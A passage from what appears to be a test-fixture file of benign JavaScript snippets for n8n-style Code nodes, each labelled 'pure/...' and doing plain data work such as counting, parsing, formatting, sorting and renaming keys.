    "code": "const counts = new Map();\nfor (const item of items) counts.set(item.json.status, (counts.get(item.json.status) || 0) + 1);\nreturn [...counts].map(([status, count]) => ({ json: { status, count } }));"
  },
  {
    "id": "pure/promise-all-sleep",
    "code": "const sleep = (ms) => new Promise((r) => setTimeout(r, ms));\nconst results = await Promise.all(items.map(async (item, i) => { await sleep(i); return { json: { ...item.json, i } }; }));\nreturn results;"
  },
  {
    "id": "pure/json-parse-reviver-dates",
    "code": "const raw = JSON.stringify(items.map((i) => i.json));\nconst parsed = JSON.parse(raw, (k, v) => (typeof v === 'string' && /^\\d{4}-\\d{2}-\\d{2}T/.test(v) ? new Date(v).getTime() : v));\nreturn parsed.map((json) => ({ json }));"
  },
  {
    "id": "pure/intl-currency-parts",
    "code": "const fmt = new Intl.NumberFormat('en-US', { style: 'currency', currency: 'USD' });\nconst parts = fmt.formatToParts(1234.5);\nconst currency = parts.find((p) => p.type === 'currency')?.value;\nreturn items.map((i) => ({ json: { ...i.json, price: fmt.format(Number(i.json.amount) || 0), currency } }));"
  },
  {
    "id": "pure/regex-groups-copy",
    "code": "return items.map((item) => {\n  const m = /(?<user>[^@]+)@(?<domain>.+)/.exec(item.json.email || '');\n  const g = m ? m.groups : {};\n  return { json: { user: g.user ?? null, domain: g.domain ?? null } };\n});"
  },
  {
    "id": "pure/chunk-batches",
    "code": "const size = 2;\nconst out = [];\nfor (let i = 0; i < items.length; i += size) out.push({ json: { batch: items.slice(i, i + size).map((x) => x.json.id) } });\nreturn out;"
  },
  {
    "id": "pure/es5-push-apply",
    "code": "var all = [];\nfor (var i = 0; i < items.length; i++) {\n  var tags = items[i].json.tags || [];\n  all.push.apply(all, tags);\n}\nreturn [{ json: { tags: all } }];"
  },
  {
    "id": "pure/flatten-nested",
    "code": "const flatten = (obj, prefix = '', out = {}) => {\n  for (const [k, v] of Object.entries(obj)) {\n    const key = prefix ? prefix + '.' + k : k;\n    if (v && typeof v === 'object' && !Array.isArray(v)) flatten(v, key, out); else out[key] = v;\n  }\n  return out;\n};\nreturn items.map((i) => ({ json: flatten(i.json) }));"
  },
  {
    "id": "pure/date-locale",
    "code": "return items.map((i) => { const d = new Date(i.json.createdAt || Date.now()); return { json: { ...i.json, day: d.toLocaleDateString('en-GB', { timeZone: 'UTC' }), ts: d.toISOString() } }; });"
  },
  {
    "id": "pure/segmenter-words",
    "code": "const seg = new Intl.Segmenter('en', { granularity: 'word' });\nreturn items.map((i) => ({ json: { words: [...seg.segment(String(i.json.name || ''))].filter((s) => s.isWordLike).length } }));"
  },
  {
    "id": "pure/pagination-generator",
    "code": "function* pages(list, size) { for (let i = 0; i < list.length; i += size) yield list.slice(i, i + size); }\nconst out = [];\nfor (const page of pages(items, 2)) out.push({ json: { ids: page.map((p) => p.json.id) } });\nreturn out;"
  },
  {
    "id": "pure/retry-finally",
    "code": "let attempts = 0;\nconst work = async () => { attempts++; return items.length; };\nconst n = await work().finally(() => { attempts += 0; });\nreturn [{ json: { n, attempts } }];"
  },
  {
    "id": "pure/named-recursive-fe",
    "code": "const depth = function d(o) { return o && typeof o === 'object' ? 1 + Math.max(0, ...Object.values(o).map(d)) : 0; };\nreturn items.map((i) => ({ json: { depth: depth(i.json) } }));"
  },
  {
    "id": "pure/class-extends-error",
    "code": "class ValidationError extends Error {\n  constructor(field) { super('invalid ' + field); this.name = 'ValidationError'; this.field = field; }\n}\nconst errors = [];\nfor (const i of items) { if (!i.json.phone) errors.push(new ValidationError('phone')); }\nreturn [{ json: { errors: errors.map((e) => ({ name: e.name, field: e.field, message: e.message })) } }];"
  },
  {
    "id": "pure/each-item-trim",
    "mode": "runOnceForEachItem",
    "code": "const out = {};\nfor (const [k, v] of Object.entries($json)) out[k] = typeof v === 'string' ? v.trim() : v;\nreturn { json: out };"
  },
  {
    "id": "pure/input-first-compare",
    "code": "const first = $input.first().json;\nreturn $input.all().map((i) => ({ json: { ...i.json, same: i.json.id === first.id } }));"
  },
  {
    "id": "pure/sort-by-date",
    "code": "return items.slice().sort((a, b) => new Date(a.json.createdAt || 0) - new Date(b.json.createdAt || 0)).map((i, idx) => ({ json: { ...i.json, rank: idx + 1 } }));"
  },
  {
    "id": "pure/static-data-runs",
    "code": "const data = $getWorkflowStaticData('global');\ndata.runs = (data.runs || 0) + 1;\nreturn [{ json: { runs: data.runs } }];"
  },
  {
    "id": "pure/freeze-config",
    "code": "const CONFIG = Object.freeze({ currency: 'EUR', rate: 1.1 });\nreturn items.map((i) => ({ json: { ...i.json, price: (Number(i.json.amount) || 0) * CONFIG.rate, currency: CONFIG.currency } }));"
  },
  {
    "id": "pure/symbol-key-cache",
    "code": "const CACHE = Symbol('cache');\nconst memo = {};\nmemo[CACHE] = new Map();\nfor (const i of items) memo[CACHE].set(i.json.id, i.json.name);\nreturn [{ json: { size: memo[CACHE].size } }];"
  },
  {
    "id": "pure/weakmap-meta",
    "code": "const meta = new WeakMap();\nfor (const i of items) meta.set(i, { seen: true });\nreturn items.map((i) => ({ json: { ...i.json, seen: meta.get(i).seen } }));"
  },
  {
    "id": "pure/timeout-race",
    "code": "const timeout = (ms) => new Promise((_, rej) => setTimeout(() => rej(new Error('timeout')), ms));\nconst work = Promise.resolve(items.length);\nconst n = await Promise.race([work, timeout(1000)]);\nreturn [{ json: { n } }];"
  },
  {
    "id": "pure/string-object-legacy",
    "code": "const s = new String('abc');\nreturn [{ json: { up: s.toUpperCase(), len: s.length } }];"
  },
  {
    "id": "pure/super-method",
    "code": "class Base { describe() { return 'item ' + this.id; } }\nclass Row extends Base { constructor(j) { super(); Object.assign(this, j); } describe() { return super.describe() + '!'; } }\nreturn items.map((i) => ({ json: { d: new Row(i.json).describe() } }));"
  },
  {
    "id": "pure/entries-to-map",
    "code": "const m = new Map(Object.entries(items[0].json));\nm.delete('id');\nreturn [{ json: Object.fromEntries(m) }];"
  },
  {
    "id": "pure/async-finally-log",
    "code": "const log = [];\nasync function step(n) { try { return n * 2; } finally { log.push('done ' + n); } }\nconst out = await Promise.all([1, 2, 3].map(step));\nreturn [{ json: { out, log } }];"
  },
  {
    "id": "pure/each-item-json-parse",
    "mode": "runOnceForEachItem",
    "code": "let data;\ntry { data = JSON.parse($json.payload ?? '{}'); } catch (e) { data = { error: e.message }; }\nreturn { json: data };"
  },
  {
    "id": "pure/arguments-apply-max",
    "code": "function maxOf() { return Math.max.apply(null, arguments); }\nreturn [{ json: { m: maxOf(...items.map((i) => Number(i.json.id) || 0)) } }];"
  },
  {
    "id": "pure/template-fill",
    "code": "const tpl = 'Hello {{name}}, your order {{id}} ships soon';\nreturn items.map((i) => ({ json: { text: tpl.replace(/\\{\\{(\\w+)\\}\\}/g, (_, k) => String(i.json[k] ?? '')) } }));"
  },
  {
    "id": "pure/rename-keys",
    "code": "const MAP = { name: 'fullName', email: 'mail' };\nreturn items.map((i) => {\n  const out = {};\n  for (const [k, v] of Object.entries(i.json)) out[MAP[k] || k] = v;\n  return { json: out };\n});"
  },
  {
    "id": "pure/diff-objects",
    "code": "const a = items[0]?.json ?? {};\nconst b = items[1]?.json ?? {};\nconst changed = {};\nfor (const k of new Set([...Object.keys(a), ...Object.keys(b)])) if (a[k] !== b[k]) changed[k] = { from: a[k], to: b[k] };\nreturn [{ json: { changed } }];"
  },
  {
    "id": "pure/get-path",
    "code": "const get = (o, path) => path.split('.').reduce((acc, k) => (acc == null ? undefined : acc[k]), o);\nreturn items.map((i) => ({ json: { city: get(i.json, 'address.city') ?? null } }));"
  },
  {
    "id": "pure/querystring",
    "code": "return items.map((i) => ({ json: { qs: Object.entries(i.json).map(([k, v]) => encodeURIComponent(k) + '=' + encodeURIComponent(String(v))).join('&') } }));"
  },
  {
    "id": "pure/arguments-spread-sum",
    "code": "function sum() { return [...arguments].reduce((a, b) => a + b, 0); }\nreturn items.map((i) => ({ json: { id: i.json.id, total: sum(i.json.id, i.json.score, 1) } }));"
  },
  {
    "id": "pure/regexp-from-string",
    "code": "const re = RegExp('^' + 'ada', 'i');\nreturn items.map((i) => ({ json: { id: i.json.id, match: re.test(String(i.json.name)) } }));"
  },
  {
    "id": "pure/promise-resolve-cached",
    "code": "const cache = new Map();\nconst lookup = (id) => { if (!cache.has(id)) cache.set(id, Promise.resolve({ id, label: 'L' + id })); return Promise.resolve(cache.get(id)); };\nconst rows = await Promise.all(items.map((i) => lookup(i.json.id)));\nreturn rows.map((r) => ({ json: r }));"
  },
  {
    "id": "pure/match-groups-destructure",
    "code": "return items.map((i) => { const { groups: { local = '', host = '' } = {} } = String(i.json.email).match(/(?<local>[^@]+)@(?<host>.+)/) || {}; return { json: { local, host } }; });"
  },
  {
    "id": "pure/parse-querystring",
    "code": "const parse = (s) => Object.fromEntries(s.replace(/^\\?/, '').split('&').filter(Boolean).map((p) => p.split('=').map(decodeURIComponent)));\nreturn [{ json: parse('?a=1&b=two') }];"
  }
];
